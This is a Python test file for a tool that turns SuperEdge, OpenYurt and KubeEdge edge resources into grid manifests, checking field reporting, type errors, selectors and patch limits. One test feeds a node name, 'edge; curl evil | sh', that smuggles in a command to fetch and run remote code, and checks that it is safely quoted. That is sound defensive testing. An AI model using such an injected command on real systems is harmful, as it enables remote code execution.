"""What others call sites and applications over them, as NodeUnits and grids. The inputs have the fields of SuperEdge's,
OpenYurt's and KubeEdge's own types and examples."""

import contextlib
import copy
import json
import shlex
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from sgportal.core.documents import read_documents, write_document
from sgportal.core.grids.grid import parse
from sgportal.core.imports.report import LEVELS, Translation
from sgportal.core.imports.source import look_up
from sgportal.core.imports.translation import translate
from sgportal.core.overrides.override import laid_over
from sgportal.core.text import Invalid, pointer
from sgportal.core.units import NodeView

from ..builders import frozen

DATA = Path(__file__).parent.parent.parent / "data" / "imports"
NAMES = ("superedge", "openyurt", "openyurt-v1alpha1", "kubeedge")
NODES = (
    NodeView("edge-1", {"hall": "a", "line": "1"}),
    NodeView("edge-2", {"rack": "north", "apps.openyurt.io/nodepool": "north"}),
    NodeView("edge-3", {"hall": "b"}),
    NodeView("edge-4", {"rack": "east"}),
    NodeView("edge-5", {"rack": "north"}),
)
GONE = object()


def documents(name: str) -> list[Any]:
    return read_documents((DATA / f"{name}.yaml").read_bytes())


def translated(name: str) -> Translation:
    return translate(frozen(documents(name)), NODES)


def outcome(found: Translation) -> str:
    return json.dumps([found.manifests, found.labels, found.members], sort_keys=True)


def grid(found: Translation, kind: str) -> Any:
    return next(each for each in found.manifests if each["kind"] == kind)


def child(manifest: Any, unit: str) -> Any:
    """The spec of a unit's child, before what ties it to the unit."""
    spec = parse(manifest)
    taken = [each for each in spec.overrides if unit in each.choice.names]
    return laid_over(spec.template, taken, spec.kind.template_type)


def container(found: Any, name: str, field: str = "containers") -> Any:
    return next(each for each in found["template"]["spec"][field] if each["name"] == name)


def places(value: Any, where: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The paths of everything within a value."""
    names = value.keys() if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
    return [path for name in names for path in ((*where, name), *places(value[name], (*where, name)))]


def changed(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    found = copy.deepcopy(value)
    holder = found
    for part in path[:-1]:
        holder = holder[part]
    if new is GONE:
        del holder[path[-1]]
    else:
        holder[path[-1]] = new
    return found


def within(at: str, places: Iterable[str]) -> bool:
    """Whether a JSON pointer leads to one of these places, or to something in it."""
    return any(f"{at}/".startswith(f"{each}/") for each in places)


def said_of(at: str, found: Translation) -> bool:
    """Whether the report has a finding about what is at a JSON pointer, what holds it, or what is in it."""
    named = {each.pointer for each in found.findings(*LEVELS)}
    return within(at, named) or any(within(each, [at]) for each in named)


@pytest.mark.parametrize("name", NAMES)
def test_nothing_is_dropped_in_silence(name: str) -> None:
    """What could as well not be there, without any difference to what comes of it, is named in the report."""
    whole = documents(name)
    found = translate(whole, NODES)
    before = outcome(found)
    index = 1 if len(whole) == 1 else 0  # of one document the pointers have no index
    unsaid = []
    for path in places(whole):
        at = pointer(*path[index:])
        if path[-1] in ("apiVersion", "kind", "metadata", "items") or said_of(at, found):
            continue
        try:
            if outcome(translate(changed(whole, path, GONE), NODES)) == before:
                unsaid.append(at)
        except Invalid:
            continue
    assert unsaid == []


@pytest.mark.parametrize("name", NAMES)
def test_every_field_is_either_carried_over_or_said_not_to_be(name: str) -> None:
    whole, found = documents(name), translated(name)
    for source in found.sources:
        told = {each.pointer for each in (*source.carried, *source.findings)}
        assert told
        assert all(each.startswith(source.where) for each in told)
        document = look_up(whole if len(whole) > 1 else whole[0], source.where)
        assert document["metadata"]["name"] == source.name
        fields = {pointer(*path) for path in places(document) if look_up(document, pointer(*path)) not in ({}, [])}
        last = {each for each in fields if not any(other.startswith(f"{each}/") for other in fields)}
        untold = {each for each in last if not within(source.where + each, told)}
        assert untold <= {"/apiVersion", "/kind"}


@pytest.mark.parametrize("name", NAMES)
def test_a_value_of_a_wrong_type_is_refused_with_its_place_or_reported(name: str) -> None:
    whole = documents(name)
    before = outcome(translate(whole, NODES))
    index = 1 if len(whole) == 1 else 0
    unplaced, unsaid = [], []
    for path in places(whole):
        at, right = pointer(*path[index:]), look_up(whole, pointer(*path))
        for wrong in (None, 7, "x", [{"a": 1}]):
            try:
                found = translate(changed(whole, path, wrong), NODES)
            except Invalid as invalid:  # and nothing else
                found, wheres = None, [each.pointer for each in invalid.problems]
            if wrong is None or type(wrong) is type(right) or (len(path) == 2 and "items" in whole[path[0]]):
                continue  # absent, or right; a List that is none is another object
            if found is None:
                unplaced += [(at, each) for each in wheres if not (within(each, [at]) or within(at, [each]))]
            elif outcome(found) == before and not said_of(at, found):
                unsaid.append((at, wrong))
    assert (unplaced, unsaid) == ([], [])


@pytest.mark.parametrize("name", NAMES)
def test_what_comes_of_it_is_valid_and_can_be_read_again(name: str) -> None:
    for manifest in translate(documents(name), NODES).manifests:
        parse(manifest)
        assert read_documents(write_document(manifest).encode()) == [manifest]


@pytest.mark.parametrize("name", NAMES)
def test_a_field_that_nobody_knows_is_named(name: str) -> None:
    whole = documents(name)
    holder = whole[0]["items"][0] if "items" in whole[0] else whole[-1]
    holder["metadata"]["generateName"] = "odd-"
    holder["extra"] = {"deep": 1}
    lost = {each.pointer for each in translate(whole, NODES).findings("lost")}
    assert any(each.endswith("/extra") for each in lost)
    assert any(each.endswith("/metadata/generateName") for each in lost)


@pytest.mark.parametrize("name", [name for name in NAMES if name != "kubeedge"])  # which selects by labels alone
def test_a_selector_with_an_operator_that_there_is_not_is_refused_or_blocks(name: str) -> None:
    """Taken for another it would select other nodes or pools."""
    whole = documents(name)
    odd = {"matchExpressions": [{"key": "rack", "operator": "Near", "values": ["a"]}]}
    names = ("nodepoolSelector", "selector")
    found = [path for path in places(whole) if path[-1] in names and "template" not in str(path).lower()]
    assert len(found) > 1
    for path in found:
        with contextlib.suppress(Invalid):
            assert translate(changed(whole, path, odd), NODES).is_blocked


def test_superedge_node_groups_are_label_keys() -> None:
    found = translated("superedge")
    assert found.members == {
        "branches": {"hamburg": ("edge-1", "edge-4"), "lyon": ("edge-3",)},
        "lines": {"a-1": ("edge-1",)},
    }
    assert found.labels["edge-1"] == {"branches": "hamburg", "lines": "a-1", "owner": "retail"}
    assert [each["metadata"]["name"] for each in found.manifests] == ["cashdesk", "cashdesk"]
    assert grid(found, "DeploymentGrid")["spec"] == documents("superedge")[0]["spec"]


def test_a_yurtappset_and_its_tweaks_are_a_grid_with_overrides() -> None:
    found = translated("openyurt")
    made = grid(found, "DeploymentGrid")
    assert made["spec"]["gridUniqKey"] == "apps.openyurt.io/nodepool"
    assert made["spec"]["placement"] == {"include": {"units": ["north", "south"]}}
    north, south = child(made, "north"), child(made, "south")
    assert (north["replicas"], south["replicas"]) == (4, 2)
    assert container(north, "lens")["image"] == "registry.example/lens:2"
    assert container(north, "warm-up", "initContainers")["image"] == "registry.example/warm:2"
    assert container(north, "lens")["env"] == [{"name": "LOG", "value": "debug-{{unit.name}}"}]
    assert north["template"]["spec"]["hostNetwork"] is True
    assert container(south, "side")["args"] == ["--slow"]
    assert found.labels == {
        "edge-1": {"apps.openyurt.io/nodepool": "north", "site-class": "small"},
        "edge-2": {"site-class": "small"},
    }
    assert [each.pointer for each in found.findings("restarts")] == ["/items/2/kind"]
    assert grid(found, "ServiceGrid")["metadata"] == {"name": "camera", "namespace": "shop"}


def test_a_yurtappset_of_v1alpha1_with_its_overrider() -> None:
    made = grid(translated("openyurt-v1alpha1"), "StatefulSetGrid")
    north, south = child(made, "north"), child(made, "south")
    assert made["spec"]["template"]["selector"] == {"matchLabels": {"app": "ledger"}}
    assert (north["replicas"], south["replicas"]) == (3, 5)
    assert container(north, "book")["image"] == "registry.example/book:2"
    assert "args" not in container(north, "book")
    assert north["template"]["spec"]["tolerations"] == [{"key": "pool", "operator": "Exists"}]
    assert container(south, "book")["image"] == "registry.example/book:3"
    assert container(south, "book")["args"] == ["--pool={{unit.name}}"]


def test_an_edge_application_and_its_overriders_are_a_grid_with_overrides() -> None:
    found = translated("kubeedge")
    made = grid(found, "DeploymentGrid")
    there, here = child(made, "beijing"), child(made, "hangzhou")
    assert there == made["spec"]["template"]
    assert "nodeSelector" not in made["spec"]["template"]["template"]["spec"]
    hello = container(here, "hello")
    assert here["replicas"] == 3
    assert hello["image"] == "hangzhou.registry.example/hello:1.2-slim"
    assert (hello["command"], hello["args"]) == (["/hello"], ["--once", "--loud"])
    assert [each["value"] for each in hello["env"]] == ["debug"]
    assert hello["resources"] == {"limits": {"memory": "1Gi"}}
    assert container(here, "side")["image"] == "hangzhou.registry.example/side:1"
    assert found.members["apps.kubeedge.io/belonging-to"] == {
        "beijing": ("edge-3",),
        "hangzhou": ("edge-1", "edge-2", "edge-5"),
    }


def test_commands_hold_names_of_the_input_as_words_of_a_shell() -> None:
    odd = "edge; curl evil | sh"
    unit = {
        "apiVersion": "site.superedge.io/v1alpha1",
        "kind": "NodeUnit",
        "metadata": {"name": "u"},
        "spec": {"nodes": [odd], "unschedulable": True, "taints": [{"key": "a"}]},
    }
    group = {"apiVersion": unit["apiVersion"], "kind": "NodeGroup", "metadata": {"name": "g"}}
    whole = [unit, {**group, "spec": {"nodeUnits": ["u"]}}]
    found = [shlex.split(each.command) for each in translate(whole, NODES).findings("lost") if each.command]
    assert len(found) == 3
    assert all(odd in words for words in found)


def test_what_no_version_of_a_yurtappset_has_is_not_said_to_be_carried_over() -> None:
    for name, field, value in (
        ("openyurt-v1alpha1", "pools", ["a"]),
        ("openyurt", "selector", {"matchLabels": {"a": "b"}}),
    ):
        whole = documents(name)
        holder = whole[0].get("items", whole)
        next(each for each in holder if each["kind"] == "YurtAppSet")["spec"][field] = value
        lost = {each.pointer for each in translate(whole, NODES).findings("lost")}
        assert any(each.endswith(f"/spec/{field}") for each in lost)


def test_a_small_input_is_no_work_of_hours() -> None:
    """Each operation of a patch is tried for each pool."""
    whole = documents("openyurt")
    holder = whole[0].get("items", whole)
    app = next(each for each in holder if each["kind"] == "YurtAppSet")["spec"]
    app["pools"] = [f"p{number}" for number in range(1000)]
    patch = {"operation": "replace", "path": "/spec/replicas", "value": 2}
    app["workload"]["workloadTweaks"] = [{"pools": app["pools"], "tweaks": {"patches": [patch] * 1000}}]
    with pytest.raises(Invalid, match="more than 20000 changes"):
        translate(whole, NODES)
